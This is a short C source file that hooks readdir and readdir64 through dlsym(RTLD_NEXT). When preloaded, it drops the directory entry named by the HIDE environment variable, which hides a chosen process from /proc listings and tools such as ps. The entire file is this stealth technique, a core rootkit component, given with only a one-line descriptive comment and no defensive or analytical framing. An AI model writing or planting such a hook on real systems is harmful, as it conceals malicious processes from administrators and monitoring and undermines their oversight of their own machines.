/* Leaves the pid in HIDE out of what readdir(3) tells, as a preloaded library would. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

#define HIDING(type, name)                                                                         \
    type *name(DIR *folder) {                                                                      \
        type *(*real)(DIR *) = (type * (*)(DIR *)) dlsym(RTLD_NEXT, #name);                        \
        const char *pid = getenv("HIDE");                                                          \
        type *entry;                                                                               \
        do {                                                                                       \
            entry = real(folder);                                                                  \
        } while (entry && pid && !strcmp(entry->d_name, pid));                                     \
        return entry;                                                                              \
    }

HIDING(struct dirent, readdir)
HIDING(struct dirent64, readdir64)
